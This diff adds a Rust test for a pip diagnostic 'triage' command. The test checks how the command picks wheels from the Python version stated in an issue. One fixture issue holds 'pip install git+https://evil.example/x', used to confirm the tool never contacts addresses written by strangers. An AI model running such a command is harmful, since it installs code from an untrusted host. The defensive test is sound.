@@ -89,3 +89,40 @@ fn an_index_that_fails_costs_the_verdict_and_never_the_report() {
         assert!(gaps.iter().any(|gap| gap["fact"] == "wheel.fits"), "{answer}: {gaps:?}");
     }
 }
+
+#[test]
+fn triage_asks_for_the_machine_that_the_issue_states() {
+    let Some(python) = modern_python() else { return skip("there is no Python with venv") };
+    let (address, asked) = index(PAGE, Duration::ZERO);
+    let triage = |body: &str, options: &[&str]| -> Value {
+        let machine = Machine::new();
+        let file = machine.write("issue.md", body);
+        let mut command = machine.pip_doctor();
+        command.env("PIP_INDEX_URL", &address).env("PIP_CONFIG_FILE", "/dev/null");
+        let done = run(command.arg("triage").arg(file).args(["--format", "json"]).args(options), "");
+        assert!(done.code < 2, "{done:?}");
+        serde_json::from_str(&done.stdout).unwrap()
+    };
+    let path = python.to_str().unwrap();
+    let python_says =
+        "Python 2.7.18 (v2.7.18:8d21aebc37, Apr 20 2020) [MSC v.1500 32 bit (Intel)] on win32\n";
+    let body = format!("```\n{python_says}{BUILT}\n```\n");
+    let without = triage(&body, &[]);
+    assert_eq!((without["facts"]["wheels"].as_array().unwrap().len(), asked.load(Ordering::SeqCst)), (0, 0));
+    // What the index says of the release is known; of a machine that nobody described no file is judged.
+    let vague = triage(&format!("```\n{BUILT}\n```\n"), &["--online", "--python", path]);
+    assert_eq!(vague["facts"]["index"]["answer"], "files");
+    assert_eq!(vague["facts"]["wheels"], serde_json::json!([]));
+    let stated = triage(&body, &["--online", "--python", path]);
+    let verdict = &stated["facts"]["wheels"][0];
+    assert_eq!(verdict["requirement"], "demo==1.0");
+    assert_eq!(verdict["chosen"], "demo-1.0-cp27-cp27m-win32.whl");
+    // Nothing of an address that a stranger wrote is asked.
+    let before = asked.load(Ordering::SeqCst);
+    let foreign = triage(
+        "```\npip install git+https://evil.example/x\nERROR: failed\n```\n",
+        &["--online", "--python", path],
+    );
+    assert_eq!(asked.load(Ordering::SeqCst), before);
+    assert!(foreign["gaps"].to_string().contains("does not say which package"), "{}", foreign["gaps"]);
+}
